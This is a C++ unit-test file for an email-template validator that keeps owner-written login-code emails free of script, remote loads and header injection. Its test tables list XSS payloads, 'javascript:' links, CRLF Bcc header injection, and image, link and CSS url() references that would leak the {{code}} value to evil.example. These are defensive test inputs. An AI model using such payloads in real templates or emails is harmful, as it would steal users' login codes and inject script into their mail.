#include "delivery/template_check.h"

#include "delivery/template_html.h"
#include "delivery/template_tags.h"

#include <gtest/gtest.h>

namespace accessd::delivery {
namespace {

using contacts::Language;

EmailText good() { return {"{{code}}", "{{code}} {{validity}} {{warning}}", "<p>{{code}}</p>"}; }

/// The problems of a template, as one text.
std::string problems(const EmailText& source)
{
    std::string all;
    for (const auto& [field, issue] : check_template(source).problems) {
        all += field + ": " + issue + "\n";
    }
    return all;
}

std::string html_problems(const std::string& html)
{
    auto source = good();
    source.html = html;
    return problems(source);
}

std::string text_problems(const std::string& text)
{
    auto source = good();
    source.text = text;
    return problems(source);
}

bool contains(const std::string& text, std::string_view part)
{
    return text.find(part) != std::string::npos;
}

TEST(TemplateCheck, TakesTheBuiltInTemplatesAsTheyAre)
{
    for (const auto language : {Language::English, Language::Spanish, Language::Portuguese}) {
        const auto source = built_in_email(language);
        const auto report = check_template(source);

        EXPECT_EQ(problems(source), "");
        EXPECT_TRUE(report.warnings.empty()) << report.warnings.front().issue;
    }
}

TEST(TemplateCheck, FillsTheBuiltInTemplateInAsTheServerDoes)
{
    const projects::Branding branding{.logo_url = "https://shop.example/l.png",
                                      .primary_color = "#123456"};
    const auto own =
        render_own_email(built_in_email(Language::English), {.language = Language::English,
                                                             .project_name = "A & B",
                                                             .code = "123456",
                                                             .minutes_valid = 10,
                                                             .branding = branding});
    const auto built_in = render_code_email(Language::English, "A & B", "123456", 10, branding);

    ASSERT_TRUE(own);
    EXPECT_EQ(own->subject, built_in.subject);
    EXPECT_EQ(own->text, built_in.text);
    EXPECT_EQ(own->html, built_in.html);
}

TEST(TemplateCheck, RefusesMustacheThatCouldDoMore)
{
    const std::pair<std::string, std::string_view> rows[] = {
        {"{{code}} {{{project}}}", "without escaping"},
        {"{{code}} {{&project}}", "without escaping"},
        {"{{code}} {{& project }}", "without escaping"},
        {"{{code}} {{>other}}", "other templates"},
        {"{{code}} {{=<% %>=}}", "delimiters"},
        {"{{code}} {{pepper}}", "there is no \"pepper\""},
        {"{{code}} {{api_key}}", "there is no \"api_key\""},
        {"{{code}} {{project.id}}", "there is no \"project.id\""},
        {"{{code}} {{.}}", "there is no \".\""},
        {"{{code}} {{}}", "there is no \"\""},
        {"{{code}} {{ code\n}}", "there is no"},
        {"{{code}} {{subject}}", "html only"},
        {"{{code}} {{project", "never closed"},
        {"{{code}} {{", "never closed"},
        {"{{code}} {{#logo}}", "never closed"},
        {"{{code}} {{/logo}}", "isn't open"},
        {"{{code}} {{#logo}}{{#image}}{{/logo}}{{/image}}", "where {{/image}} is expected"},
        {"{{code}} {{#project}}{{/project}}", "always there"},
    };
    for (const auto& [text, why] : rows) {
        EXPECT_TRUE(contains(text_problems(text), why)) << text << " -> " << text_problems(text);
    }
}

TEST(TemplateCheck, SaysWhere)
{
    EXPECT_TRUE(contains(text_problems("{{code}}\nñandú {{x}}"), "text: line 2, column 7: "));
    EXPECT_TRUE(contains(html_problems("<p>\n\n <script>"), "html: line 3, column 2: "));
}

TEST(TemplateCheck, WantsTheCodeWhereItIsSeen)
{
    for (const auto* text : {"no code", "{{#logo}}{{code}}{{/logo}}", "{{! code }}"}) {
        EXPECT_TRUE(contains(text_problems(text), "must have {{code}}")) << text;
    }
    for (const auto* html :
         {"<p>no code</p>", "<title>{{code}}</title>", "{{#logo}}{{code}}{{/logo}}",
          "<title>{{subject}}</title>{{^link}}{{code}}{{/link}}"}) {
        EXPECT_TRUE(contains(html_problems(html), "must have {{code}}")) << html;
    }
}

TEST(TemplateCheck, RefusesHtmlThatDoesMoreThanShow)
{
    const std::pair<std::string, std::string_view> rows[] = {
        {"<script>alert(1)</script>", "scripts"},
        {"<SCRIPT src=//x></SCRIPT>", "scripts"},
        {"<p onclick=\"x()\">", "event handlers"},
        {"<body OnLoad='x()'>", "event handlers"},
        {"<form action=\"https://evil.example\">", "forms"},
        {"<input name=\"code\">", "forms"},
        {"<iframe src=\"https://evil.example\"></iframe>", "other pages"},
        {"<object data=\"x\"></object>", "other pages"},
        {"<svg><script>x</script></svg>", "<svg>"},
        {"<math>", "<math>"},
        {"<template>", "<template>"},
        {"<noscript>", "<noscript>"},
        {"<plaintext>", "<plaintext>"},
        {"<base href=\"https://evil.example/\">", "<base>"},
        {"<link rel=\"stylesheet\" href=\"https://evil.example/\">", "<link>"},
        {"<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">", "http-equiv"},
        {"<a href=\"javascript:alert(1)\">", "https://"},
        {"<a href=\"&#106;avascript:alert(1)\">", "https://"},
        {"<a href=\" javascript:alert(1)\">", "https://"},
        {"<a href=\"http://shop.example\">", "https://"},
        {"<a href=\"//evil.example\">", "https://"},
        {"<a href=\"https://shop.example@evil.example/\">", "https://"},
        {"<a href=\"https://evil.example\\.shop.example/\">", "https://"},
        {"<a href=https://shop.example>", "in quotes"},
        {"<img src=\"data:image/png;base64,AAAA\">", "https://"},
        {"<img src=\"http://shop.example/a.png\">", "https://"},
        {"<p background=\"https://evil.example\">", "background"},
        {"<img srcset=\"https://evil.example/a 1x\">", "srcset"},
        {"<!-- hidden -->", "comments"},
        {"<!--[if mso]><script>x</script><![endif]-->", "comments"},
        {"<![CDATA[ x ]]>", "comments"},
        {"<?xml version=\"1.0\"?>", "&lt;"},
        {"a < b", "&lt;"},
        {"<p/onclick=\"x\">", "between < and >"},
        {"<p a\"b\">", "isn't allowed"},
        {"<p title=\"x\"onclick=\"x\">", "between < and >"},
        {"<p", "between < and >"},
        {"<p title=\"x", "never closed"},
        {"<style>p{}", "never closed"},
    };
    for (const auto& [html, why] : rows) {
        EXPECT_TRUE(contains(html_problems("{{code}}" + html), why))
            << html << " -> " << html_problems("{{code}}" + html);
    }
}

TEST(TemplateCheck, KeepsTheCodeFromGoingToOthers)
{
    const std::pair<std::string, std::string_view> rows[] = {
        {"<img src=\"https://evil.example/{{code}}\">", "{{code}} must not stand in"},
        {"<img src=\"{{code}}\">", "{{code}} must not stand in"},
        {"<img src=\"{{link}}\">", "{{link}} must not stand in"},
        {"<img src=\"{{logo}}?{{code}}\">", "must not stand in"},
        {"<a href=\"https://evil.example/?c={{code}}\">", "{{code}} must not stand in"},
        {"<a href=\"{{code}}\">", "{{code}} must not stand in"},
        {"<a href=\"{{project}}\">", "{{project}} must not stand in"},
        {"<a href=\"https://evil.example/?l={{link}}\">", "{{link}} must not stand in"},
        {"<a href=\"{{link}}&x={{code}}\">", "must not stand in"},
        {"<a href=\"mailto:x@evil.example?body={{code}}\">", "{{code}} must not stand in"},
        {"<p title=\"{{code}}\">", "{{code}} must not stand in"},
        {"<p title=\"{{subject}}\">", "{{subject}} must not stand in"},
        {"<p style=\"background:url(https://evil.example/{{code}})\">", "must not stand in style"},
        {"<p style=\"color:{{project}}\">", "{{project}} must not stand in style"},
        {"<p {{project}}>", "between < and >"},
        {"<p {{#logo}}title=\"x\"{{/logo}}>", "between < and >"},
        {"<p title=\"{{#logo}}x{{/logo}}\">", "no sections"},
        {"<{{project}}>", "&lt;"},
        {"<style>p{color:{{color}}}</style>", "must not contain {{...}}"},
        {"{{#logo}}<style>{{/logo}}{{code}}</style>", "must not contain {{...}}"},
        {"{{#logo}}<title>{{/logo}}x</title>", "must not contain sections"},
        {"{{#logo}}<p title=\"{{/logo}}\">", "no sections"},
    };
    for (const auto& [html, why] : rows) {
        const auto found = html_problems("{{code}}" + html);
        EXPECT_TRUE(contains(found, why)) << html << " -> " << found;
    }
}

TEST(TemplateCheck, RefusesStylesThatLoadOrHideWhatTheyDo)
{
    for (const auto* css :
         {"background:url(https://evil.example)", "background:URL (x)url(x)", "@import 'x'",
          "@font-face{src:x}", "width:expression(alert(1))", "background:u\\72l(x)",
          "background:image-set('https://evil.example' 1x)", "background:-webkit-image-set(x)",
          "content:attr(title)", "behavior:url(x)", "color:var(--x)", "a<b"}) {
        EXPECT_NE(find_css_problem(css), "") << css;
    }
    for (const auto* css :
         {"@media (prefers-color-scheme: dark) { .a { color: rgb(1,2,3) !important } }",
          "font-family:-apple-system,'Segoe UI',Arial", "width:calc(100% - 2px)"}) {
        EXPECT_EQ(find_css_problem(css), "") << css;
    }
    EXPECT_TRUE(contains(html_problems("{{code}}<p style=\"background:&#117;rl(x)\">"), "&"));
}

TEST(TemplateCheck, BoundsSizeDepthAndNumber)
{
    std::string deep;
    for (int i = 0; i < 1000; ++i) deep += "{{#logo}}";
    EXPECT_TRUE(contains(text_problems("{{code}}" + deep), "deep"));
    std::string many = "{{code}}";
    for (int i = 0; i < 5000; ++i) many += "{{project}}";
    EXPECT_TRUE(contains(html_problems(many), "html: "));
    EXPECT_TRUE(contains(text_problems(many.substr(0, 16'000)), "more than 200 tags"));
    EXPECT_TRUE(contains(text_problems(std::string(kTextBytesMax, 'x') + "{{code}}"), "bytes"));
    EXPECT_TRUE(contains(html_problems(std::string(kHtmlBytesMax, 'x') + "{{code}}"), "bytes"));
    auto source = good();
    source.subject = std::string(kSubjectCharactersMax + 1, 'x');
    EXPECT_TRUE(contains(problems(source), "200 characters"));
}

TEST(TemplateCheck, StopsWhatGrowsTooLargeOnceItIsFilledIn)
{
    auto source = good();
    for (int i = 0; i < 199; ++i) source.html += "<p>{{project}}</p>";
    ASSERT_EQ(problems(source), "");
    EmailFacts facts{.project_name = "Shop", .code = "123456"};
    EXPECT_TRUE(render_own_email(source, facts));

    facts.project_name = std::string(600, '"');
    EXPECT_FALSE(render_own_email(source, facts));
}

TEST(TemplateCheck, StartsNoHeaderFromTheSubject)
{
    auto source = good();
    source.subject = "{{code}}\r\nBcc: eve@evil.example";
    EXPECT_TRUE(contains(problems(source), "one line"));

    source.subject = "{{code}} {{project}}";
    const auto mail = render_own_email(
        source, {.project_name = "Shop\r\nBcc: eve@evil.example\n\nbody", .code = "123456"});
    ASSERT_TRUE(mail);
    EXPECT_EQ(mail->subject.find_first_of("\r\n"), std::string::npos) << mail->subject;
}

TEST(TemplateCheck, EscapesWhatOthersChose)
{
    auto source = good();
    source.html = "{{code}}<p title=\"{{project}}\">{{project}}</p>{{#logo}}<img src=\"{{logo}}\">"
                  "{{/logo}}<b style=\"color:{{text_color}}\">{{contact_email}}</b>"
                  "<a href=\"{{privacy_url}}\">x</a>";
    ASSERT_EQ(problems(source), "");
    const std::string attack = "\"><script>alert('1')</script>{{code}}";
    const auto mail = render_own_email(
        source, {.project_name = attack,
                 .code = "123456",
                 .branding = {.logo_url = "javascript:" + attack,
                              .text_color = "red;background:url(https://evil.example)"},
                 .privacy_url = "javascript:alert(1)",
                 .contact_email = attack});
    ASSERT_TRUE(mail);
    for (const auto* bad : {"<script", "javascript:", "evil.example"}) {
        EXPECT_FALSE(contains(mail->html, bad)) << mail->html;
    }
    EXPECT_TRUE(contains(mail->text, "123456"));
    EXPECT_FALSE(contains(mail->html, "title=\"\">")) << mail->html;
}

TEST(TemplateCheck, WarnsOfWhatAnOwnerShouldKnow)
{
    auto source = good();
    source.subject = "Your code";
    source.html = "<a href=\"https://shop.example/help\">?</a><p style=\"display: none\">x</p>"
                  "<img src=\"https://cdn.example/a.png\" alt=\"\">{{code}}";
    std::string all;
    for (const auto& [field, issue] : check_template(source).warnings) {
        all += field + ": " + issue + "\n";
    }
    EXPECT_EQ(problems(source), "");
    for (const auto* part :
         {"subject: has no {{code}}", "links to shop.example", "loads pictures from cdn.example",
          "hides a part", "{{validity}}", "{{warning}}"}) {
        EXPECT_TRUE(contains(all, part)) << part << " in " << all;
    }
}

}  // namespace
}  // namespace accessd::delivery
